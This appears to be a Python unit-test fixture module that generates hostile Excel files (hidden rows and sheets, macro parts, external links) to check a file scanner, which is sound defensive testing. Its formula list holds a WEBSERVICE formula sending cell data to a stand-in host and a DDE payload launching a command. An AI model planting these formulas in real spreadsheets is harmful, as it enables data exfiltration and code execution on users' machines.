"""Spreadsheets that hide, fetch or run."""

from collections.abc import Callable, Iterator

from tests.unit.files import good
from tests.unit.files.hostile.making import Case, Why, case


def excel() -> Iterator[Case]:
    """Spreadsheets that hide, fetch or run."""

    def hide_row(book: object) -> None:
        book.active.row_dimensions[2].hidden = True  # type: ignore[attr-defined]

    def hide_column(book: object) -> None:
        book.active.column_dimensions["B"].hidden = True  # type: ignore[attr-defined]

    def hide_sheet(state: str) -> Callable[[object], None]:
        return lambda book: setattr(book.create_sheet("Secret"), "sheet_state", state)  # type: ignore[attr-defined]

    def formula(text: str) -> Callable[[object], None]:
        return lambda book: book.active.__setitem__("C1", text)  # type: ignore[attr-defined]

    yield case("excel with a hidden row", lambda: good.excel(hide_row), Why.HIDDEN_PARTS)
    yield case("excel with a hidden column", lambda: good.excel(hide_column), Why.HIDDEN_PARTS)
    for state in ("hidden", "veryHidden"):
        yield case(
            f"excel with a sheet that is {state}",
            lambda state=state: good.excel(hide_sheet(state)),
            Why.HIDDEN_PARTS,
        )
    for text in (
        '=WEBSERVICE("http://203.0.113.9/"&A1)',
        "=cmd|'/c calc'!A0",
        '=CALL("x","y")',
        '=REGISTER("x")',
    ):
        yield case(f"excel that says {text[:12]}", lambda text=text: good.excel(formula(text)), Why.LINKS)


def more_excel() -> Iterator[Case]:
    """Further ones."""
    for part, why in {
        "xl/vbaProject.bin": Why.MACROS,
        "xl/macrosheets/sheet1.xml": Why.MACROS,
        "xl/externalLinks/externalLink1.xml": Why.LINKS,
        "xl/connections.xml": Why.LINKS,
        "xl/queryTables/queryTable1.xml": Why.LINKS,
        "xl/embeddings/x.bin": Why.FILES_INSIDE,
        "xl/ctrlProps/ctrlProp1.xml": Why.FILES_INSIDE,
        "xl/pivotCache/pivotCacheRecords1.xml": Why.PIVOT,
        "xl/slicers/slicer1.xml": Why.PIVOT,
        "xl/revisions/revisionHeaders.xml": Why.TRACKED_CHANGES,
    }.items():
        yield case(f"excel with {part}", lambda part=part: good.rezipped(good.excel(), {part: b"<a/>"}), why)
